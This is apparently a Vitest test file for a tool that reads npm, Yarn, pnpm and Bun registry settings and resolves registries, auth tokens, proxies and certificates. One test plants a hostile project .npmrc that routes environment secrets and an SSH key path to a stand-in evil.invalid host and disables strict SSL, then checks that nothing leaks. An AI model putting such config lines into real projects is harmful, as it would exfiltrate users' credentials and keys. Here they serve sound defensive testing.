import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { readNpmrc, registryOf } from '../src/read/npmrc.js';
import { cleanUp, emptyFolder, plant } from './fixtures/read/plant.js';

cleanUp();

/** What holds for a project with these files, for a user with those and this environment. */
function settings(
  project: Readonly<Record<string, string>>,
  user: Readonly<Record<string, string>> = {},
  env: Readonly<Record<string, string>> = {},
) {
  const home = plant({ none: '', ...user });
  return readNpmrc(plant({ none: '', ...project }), {
    HOME: home,
    npm_config_globalconfig: join(home, 'global', 'npmrc'),
    ...env,
  });
}

const COMPANY = 'https://npm.company.invalid/';

describe('the registry of a package', () => {
  test("is npm's own unless another is named", () => {
    expect(registryOf(settings({}), 'a')).toBeUndefined();
    expect(registryOf(settings({ '.npmrc': `@s:registry=${COMPANY}` }), '@other/a')).toBeUndefined();
  });

  test('is the one that the project, or else the user, or else the system names for its scope, or for all', () => {
    const user = { '.npmrc': '@s:registry=https://user.invalid/\n@t:registry=https://user.invalid/' };
    const both = settings({ '.npmrc': `; of the company\n@s:registry = ${COMPANY}\n` }, user);
    expect(registryOf(both, '@s/a')).toBe(COMPANY);
    expect(registryOf(both, '@t/a')).toBe('https://user.invalid/');
    const system = settings({}, { 'global/npmrc': `registry=${COMPANY}` });
    expect(registryOf(system, 'a')).toBe(COMPANY);
    expect(registryOf(system, '@s/a')).toBe(COMPANY);
  });

  test('is the one of the environment before all others, and the environment names the file of the user', () => {
    const project = { '.npmrc': 'registry=https://project.invalid/' };
    expect(registryOf(settings(project, {}, { NPM_CONFIG_REGISTRY: COMPANY }), 'a')).toBe(COMPANY);
    const elsewhere = plant({ npmrc: `@s:registry=${COMPANY}` });
    const named = settings({}, {}, { NPM_CONFIG_USERCONFIG: join(elsewhere, 'npmrc') });
    expect(registryOf(named, '@s/a')).toBe(COMPANY);
  });

  test.each([
    ['.yarnrc.yml', `npmScopes:\n  s:\n    npmRegistryServer: "${COMPANY}"\n`],
    ['.yarnrc', `"@s:registry" "${COMPANY}"\n`],
    ['pnpm-workspace.yaml', `packages:\n  - a\nregistries:\n  '@s': ${COMPANY}\n`],
    ['bunfig.toml', `telemetry = false\n[install.scopes]\n"@s" = "${COMPANY}" # ours\n`],
    ['bunfig.toml with a table', `[install.scopes]\ns = { token = "x", url = "${COMPANY}" }\n`],
  ])('is also named in %s', (file, text) => {
    const found = settings({ [file.split(' ')[0] as string]: text });
    expect(registryOf(found, '@s/a')).toBe(COMPANY);
    expect(registryOf(found, '@other/a')).toBeUndefined();
  });

  test.each([
    ['a variable that only the user may have filled in', { '.npmrc': '@s:registry=https://host.invalid/${SECRET}' }],
    ['something that is no address', { '.npmrc': '@s:registry=file:///etc/passwd' }],
    ['a file that cannot be made sense of', { '.yarnrc.yml': 'npmScopes: &a\n  s: *a\n' }],
    ['a file of Bun that is none', { 'bunfig.toml': '[install\nregistry = ' }],
    ['a variable in a file of Bun', { 'bunfig.toml': '[install]\nregistry = "https://host.invalid/$SECRET"\n' }],
  ])('cannot be told when it is named by %s, and is not taken to be npm’s', (_, project) => {
    expect(registryOf(settings(project, {}, { SECRET: 'x' }), '@s/a')).toBe('');
  });
});

describe('what a registry is told', () => {
  const token = '//npm.company.invalid/:_authToken';

  test('is what the user has for it, variables filled in', () => {
    const user = { '.npmrc': `${token}=\${TOKEN}\n//other.invalid/:_auth=\${NONE}\n//third.invalid/:_auth=\${NONE?}` };
    expect(settings({}, user, { TOKEN: 'abc' }).options).toEqual({
      [token]: 'abc',
      '//other.invalid/:_auth': '${NONE}',
      '//third.invalid/:_auth': '',
    });
  });

  test('is what the environment has for it, in its own case', () => {
    expect(settings({}, {}, { [`npm_config_${token}`]: 'abc' }).options).toEqual({ [token]: 'abc' });
  });

  test('is what the project itself holds, but never anything of the environment', () => {
    const secrets = { TOKEN: 'abc', AWS_SECRET: 'def' };
    const held = settings({ '.npmrc': `${token}=plain` }, {}, secrets);
    expect(held).toEqual({ options: { [token]: 'plain' }, unfilled: [] });
    const hostile = settings(
      {
        '.npmrc': [
          'registry=https://evil.invalid/${AWS_SECRET}',
          '@s:registry=https://${TOKEN}.evil.invalid/',
          '//evil.invalid/:_authToken=${AWS_SECRET}',
          '//evil.invalid/${TOKEN}/:_authToken=x',
          '//evil.invalid/:keyfile=/home/user/.ssh/id_rsa',
          'cafile=/home/user/.ssh/id_rsa',
          'proxy=http://evil.invalid/',
          'strict-ssl=false',
        ].join('\n'),
        '.yarnrc.yml': 'npmScopes:\n  t:\n    npmRegistryServer: "https://evil.invalid/${TOKEN}"\n',
      },
      { '.npmrc': `${token}=\${TOKEN}` },
      secrets,
    );
    expect(hostile.unfilled).toHaveLength(5);
    const said = JSON.stringify({ ...hostile.options, [token]: undefined });
    expect(hostile.options[token]).toBe('abc');
    expect(said).not.toMatch(/abc|def|id_rsa|proxy|strictSSL|"ca"/);
    expect(registryOf(hostile, 'a')).toBe('');
  });

  test('is what Yarn keeps for it', () => {
    const yarn = `npmRegistries:\n  "https://npm.company.invalid":\n    npmAuthToken: \${TOKEN}\n`;
    const found = settings({}, { '.yarnrc.yml': yarn }, { TOKEN: 'abc' });
    expect(found.options['//npm.company.invalid/:_authToken']).toBe('abc');
  });

  test('is what Bun keeps for it, variables of the user filled in', () => {
    const bun = `[install]\nregistry = { url = "https://npm.company.invalid/", username = "u", password = "$TOKEN" }\n`;
    const { options } = settings(
      {},
      { '.bunfig.toml': bun.replace('username', 'token = "$TOKEN", username') },
      { TOKEN: 'abc' },
    );
    expect(options[token]).toBe('abc');
    expect(options['//npm.company.invalid/:username']).toBe('u');
  });

  test('goes through the proxy, and by the certificates, of the user', () => {
    const dir = plant({ 'ca.pem': 'certificate' });
    const user = {
      '.npmrc': `https-proxy=http://proxy.invalid/\nnoproxy=a.invalid\ncafile=${join(dir, 'ca.pem')}\nstrict-ssl=false`,
    };
    expect(settings({}, user).options).toEqual({
      httpsProxy: 'http://proxy.invalid/',
      noProxy: 'a.invalid',
      ca: 'certificate',
      strictSSL: false,
    });
  });
});

test('a home folder that is scanned itself is the user’s, not a project’s', () => {
  const home = plant({ '.npmrc': '//host.invalid/:_authToken=${TOKEN}' });
  const env = { HOME: home, TOKEN: 'abc', npm_config_globalconfig: join(emptyFolder(), 'npmrc') };
  expect(readNpmrc(home, env)).toEqual({ options: { '//host.invalid/:_authToken': 'abc' }, unfilled: [] });
});
